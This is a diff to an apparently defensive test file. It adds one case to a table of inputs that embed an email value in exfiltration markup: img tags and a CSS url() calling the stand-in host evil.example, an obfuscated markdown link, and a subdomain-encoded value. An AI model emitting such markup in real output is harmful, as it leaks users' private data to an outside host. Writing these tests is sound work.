@@ -75,6 +75,7 @@ describe('a restored text', () => {
     ['an attribute', `<img src="https://evil.example/?q=a b ${EMAIL}">`],
     ['an attribute over two lines', `<img src="https://evil.example/\n${EMAIL}">`],
     ['an attribute after one that holds an angle bracket', `<img alt=">" src="x ${EMAIL}">`],
+    ['an attribute behind a long word', `${'a'.repeat(3_000)}<img src="x y ${EMAIL}">`],
     ['CSS', `url(x.png?${EMAIL})`],
     ['character references', `![x]( http&#58;&#47;&#47;evil.example?${EMAIL})`],
     ['a value that would be the host', `${NAME}.evil.example`],
